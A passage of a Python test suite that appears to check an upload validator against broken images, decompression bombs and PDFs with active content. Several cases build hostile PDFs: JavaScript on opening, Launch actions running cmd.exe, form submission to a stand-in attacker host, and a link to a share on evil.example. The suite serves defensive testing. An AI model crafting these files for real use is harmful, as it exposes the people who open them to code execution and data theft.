    Case("animated PNG of 101 frames", "a.png", lambda: frames("PNG", 101, (8, 8), "L"), "too_many_frames"),
    Case("animated PNG that claims two billion", "a.png", lambda: into_png(png_chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))), "too_many_frames"),
    Case("GIF cut in the middle", "a.gif", lambda: damaged(gif(), keep=0.5), "damaged_image"),
    Case("GIF of its first bytes only", "a.gif", bytes_of(b"GIF89a\1\0\1\0\0\0\0"), "damaged_image"),
    Case("GIF without a picture", "a.gif", bytes_of(b"GIF89a\1\0\1\0\0\0\0;" + b""), "damaged_image"),
    Case("GIF that claims 65535 x 65535", "a.gif", lambda: gif_of(65535, 65535, 1), "too_many_pixels"),
    Case("GIF bomb of 101 frames", "a.gif", lambda: gif_of(100, 100, 101), "too_many_frames"),
    Case("GIF bomb of a million frames", "a.gif", lambda: gif_of(1, 1, 400_000), "too_many_frames"),
    Case("GIF bomb, 60 large frames", "a.gif", lambda: gif_of(7000, 7000, 60), "image_too_big_inside"),
    Case("TIF cut in the middle", "a.tif", lambda: damaged(tiff(), keep=0.5), "damaged_image"),
    Case("TIF of its first bytes only", "a.tif", bytes_of(b"II*\0\x08\0\0\0"), "damaged_image"),
    Case("TIF whose pages go in a circle", "a.tif", tiff_loop, "damaged_image"),
    Case("TIF whose first page is nowhere", "a.tif", bytes_of(b"II*\0\xff\xff\xff\x7f" + bytes(100)), "damaged_image"),
    Case("TIF without a page", "a.tif", bytes_of(b"MM\0*\0\0\0\0" + bytes(100)), "damaged_image"),
    Case("TIF that claims 100000 x 100000", "a.tif", lambda: tiff_with_size(100_000, 100_000), "too_many_pixels"),
    Case("TIF of 201 pages", "a.tif", lambda: frames("TIFF", 201, mode="1"), "too_many_frames"),
    Case("TIF bomb, packed pages of 49 million pixels", "a.tif", lambda: frames("TIFF", 17, (7000, 7000), "1", compression="group4"), "image_too_big_inside"),
    Case("BMP cut in the middle", "a.bmp", lambda: damaged(bmp(), keep=0.5), "damaged_image"),
    Case("BMP that claims 100000 x 100000", "a.bmp", lambda: bmp_with(18, "<ii", 100_000, 100_000), "too_many_pixels"),
    Case("BMP of negative width", "a.bmp", lambda: bmp_with(18, "<i", -640), "damaged_image"),
    Case("BMP of no height", "a.bmp", lambda: bmp_with(22, "<i", 0), "damaged_image"),
    Case("BMP with the lowest height there is", "a.bmp", lambda: bmp_with(22, "<i", -(2**31)), "too_many_pixels"),
    Case("BMP whose pixels begin behind its end", "a.bmp", lambda: bmp_with(10, "<I", 2**31), "damaged_image"),
    Case("BMP of 7 bits", "a.bmp", lambda: bmp_with(28, "<H", 7), "damaged_image"),
]  # fmt: skip

BROKEN_PDFS = [
    Case("PDF cut in the middle", "a.pdf", lambda: damaged(big_pdf(), keep=0.5), "damaged_pdf"),
    Case("PDF without its last line", "a.pdf", lambda: pdf()[:-7], "damaged_pdf"),
    Case("PDF of its first line only", "a.pdf", bytes_of(b"%PDF-1.7\n"), "damaged_pdf"),
    Case("PDF of its first and last line", "a.pdf", bytes_of(b"%PDF-1.7\n%%EOF\n"), "damaged_pdf"),
    Case("PDF whose table is nowhere", "a.pdf", bytes_of(b"%PDF-1.7\nstartxref\n99999\n%%EOF\n"), "damaged_pdf"),
    Case("PDF of noise", "a.pdf", lambda: b"%PDF-1.7\n" + random.Random(9).randbytes(20_000) + b"\n%%EOF\n", "damaged_pdf"),
    Case("PDF without pages", "a.pdf", lambda: pdf(pages=0), "no_pages"),
    Case("PDF of 501 pages", "a.pdf", lambda: pdf(pages=501), "too_many_pages"),
    Case("PDF whose pages go in a circle", "a.pdf", pdf_page_tree_loop, "damaged_pdf"),
    Case("PDF nested 50000 deep", "a.pdf", pdf_deep, "damaged_pdf"),
    Case("PDF of 210000 objects", "a.pdf", pdf_many_objects, "pdf_too_big_inside"),
    Case("PDF with a password", "a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="u", owner="o")), "encrypted_pdf"),
    Case("PDF with restrictions", "a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="", owner="o")), "encrypted_pdf"),
    Case("PDF with an old password", "a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="u", owner="o", R=3, aes=False, metadata=False)), "encrypted_pdf"),
    Case("PDF with packed objects, a bomb", "a.pdf", pdf_object_stream_bomb, "no_pages"),
    Case("PDF with a bomb for a page", "a.pdf", lambda: pdf(with_stream(zeros(300 * MIB), Name.FlateDecode)), "pdf_too_big_inside"),
    Case("PDF with a bomb packed twice", "a.pdf", lambda: pdf(with_stream(zlib.compress(zeros(300 * MIB), 9), Array([Name.FlateDecode] * 2))), "pdf_too_big_inside"),
    Case("PDF with a stream packed ten times", "a.pdf", pdf_packed_often, "pdf_too_big_inside"),
    Case("PDF with many streams, together a bomb", "a.pdf", lambda: pdf(with_many_streams), "pdf_too_big_inside"),
    Case("PDF with a picture of 60000 x 60000", "a.pdf", lambda: pdf(with_picture(60_000, 60_000, zlib.compress(b"x"))), "too_many_pixels"),
    Case("PDF with a bomb for a picture", "a.pdf", lambda: pdf(with_picture(10, 10, zeros(300 * MIB))), "pdf_too_big_inside"),
]  # fmt: skip

ACTIVE_PDFS = [
    Case("PDF with a script at opening", "a.pdf", lambda: pdf(of_root(OpenAction=action(S=Name.JavaScript, JS=JS))), "script_in_pdf"),
    Case("PDF with a script in a stream", "a.pdf", lambda: pdf(with_script_in_stream), "script_in_pdf"),
    Case("PDF with a script by name", "a.pdf", lambda: pdf(with_script_by_name), "script_in_pdf"),
    Case("PDF with a script in a field", "a.pdf", lambda: pdf(with_script_in_field), "script_in_pdf"),
    Case("PDF with a script behind a link", "a.pdf", lambda: pdf(annotated(Subtype=Name.Link, A=action(S=Name.JavaScript, JS=JS))), "script_in_pdf"),
    Case("PDF with a script deep inside", "a.pdf", lambda: pdf(with_hidden_script), "script_in_pdf"),
    Case("PDF with a script among packed objects", "a.pdf", lambda: pdf(with_hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "script_in_pdf"),
    Case("PDF with a script in escaped names", "a.pdf", pdf_escaped_names, "script_in_pdf"),
    Case("PDF that acts when a page opens", "a.pdf", lambda: pdf(lambda d: d.pages[0].obj.__setitem__("/AA", Dictionary(O=action(S=Name.URI, URI=EVIL)))), "script_in_pdf"),
    Case("PDF that sends its form", "a.pdf", lambda: pdf(annotated(Subtype=Name.Link, A=action(S=Name.SubmitForm, F=EVIL))), "script_in_pdf"),
    Case("PDF that fills itself in", "a.pdf", lambda: pdf(annotated(Subtype=Name.Link, A=action(S=Name.ImportData, F=String("a.fdf")))), "script_in_pdf"),
    Case("PDF with PostScript inside", "a.pdf", lambda: pdf(of_root(PieceInfo=Dictionary(Type=Name.XObject, Subtype=Name.PS))), "script_in_pdf"),
    Case("PDF that starts a program", "a.pdf", lambda: pdf(of_root(OpenAction=action(S=Name.Launch, F=String("cmd.exe")))), "launch_in_pdf"),
    Case("PDF with a program behind a link", "a.pdf", lambda: pdf(annotated(Subtype=Name.Link, A=action(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"))))), "launch_in_pdf"),
    Case("PDF that opens an address", "a.pdf", lambda: pdf(of_root(OpenAction=action(S=Name.URI, URI=EVIL))), "launch_in_pdf"),
    Case("PDF that opens an address after a page", "a.pdf", lambda: pdf(with_next_action), "launch_in_pdf"),
    Case("PDF that opens another file", "a.pdf", lambda: pdf(annotated(Subtype=Name.Link, A=action(S=Name.GoToR, F=String("\\\\evil.example\\share\\a.pdf")))), "launch_in_pdf"),
    Case("PDF that opens a file packed in it", "a.pdf", lambda: pdf(annotated(Subtype=Name.Link, A=action(S=Name.GoToE, T=Dictionary(R=Name.C)))), "launch_in_pdf"),
    Case("PDF with a script for an address", "a.pdf", lambda: pdf(annotated(Subtype=Name.Link, A=action(S=Name.URI, URI=String("javascript:alert(1)")))), "launch_in_pdf"),
    Case("PDF whose page lies elsewhere", "a.pdf", pdf_external_stream, "launch_in_pdf"),
    Case("PDF that starts a program by a name elsewhere", "a.pdf", lambda: pdf_with_note(b"/Subtype /Link /A 5 0 R", b"<< /S 6 0 R /Win << /P (cmd.exe) >> >>", b"/Launch"), "launch_in_pdf"),
    Case("PDF that starts a program by an escaped name elsewhere", "a.pdf", lambda: pdf_with_note(b"/Subtype /Link /A 5 0 R", b"<< /S 6 0 R /Win << /P (cmd.exe) >> >>", b"/La#75nch"), "launch_in_pdf"),
    Case("PDF that opens a packed file by a name elsewhere", "a.pdf", lambda: pdf_with_note(b"/Subtype /Link /A 5 0 R", b"<< /S 6 0 R /T << /R /C >> >>", b"/GoToE"), "launch_in_pdf"),
    Case("PDF with a file pinned by a name elsewhere", "a.pdf", lambda: pdf_with_note(b"/Subtype 5 0 R", b"/FileAttachment"), "attachment_in_pdf"),
    Case("PDF that calls a program a part of the page", "a.pdf", lambda: pdf_with_note(b"/Subtype /Link /A << /Type /StructElem /S /Launch /F (cmd.exe) >>"), "launch_in_pdf"),
    Case("PDF with a script for an address, two bytes a letter", "a.pdf", lambda: pdf_with_note(b"/Subtype /Link /A << /S /URI /URI <%s> >>" % "\ufeffjavascript:alert(1)".encode("utf-16-be").hex().encode()), "launch_in_pdf"),
    Case("PDF whose structure names a movie", "a.pdf", lambda: pdf(of_root(StructTreeRoot=Dictionary(Type=Name.StructTreeRoot, K=Dictionary(Type=Name.StructElem, S=Name.Movie)))), "ok"),
    Case("PDF with a file packed in", "a.pdf", lambda: pdf(with_attachment), "attachment_in_pdf"),
    Case("PDF with a file pinned to a page", "a.pdf", lambda: pdf(annotated(Subtype=Name.FileAttachment)), "attachment_in_pdf"),
    Case("PDF portfolio", "a.pdf", lambda: pdf(of_root(Collection=Dictionary(View=Name.T))), "attachment_in_pdf"),
    Case("PDF with an XFA form", "a.pdf", lambda: pdf(of_root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>")))), "form_in_pdf"),
    Case("PDF with Flash", "a.pdf", lambda: pdf(annotated(Subtype=Name.RichMedia)), "media_in_pdf"),
    Case("PDF with a video", "a.pdf", lambda: pdf(annotated(Subtype=Name.Screen, A=action(S=Name.Rendition, OP=0))), "media_in_pdf"),
    Case("PDF with a sound", "a.pdf", lambda: pdf(annotated(Subtype=Name.Link, A=action(S=Name.Sound))), "media_in_pdf"),
    Case("PDF with a 3D model", "a.pdf", lambda: pdf(annotated(Subtype=Name("/3D"))), "media_in_pdf"),
    Case("PDF that shows one page 400 times", "a.pdf", pdf_same_page_often, "damaged_pdf"),
]  # fmt: skip

CASES: list[Case] = [*GOOD, *WRONG_TYPE, *TWO_AT_ONCE, *BROKEN_IMAGES, *BROKEN_PDFS, *ACTIVE_PDFS]
assert len({case.name for case in CASES}) == len(CASES)
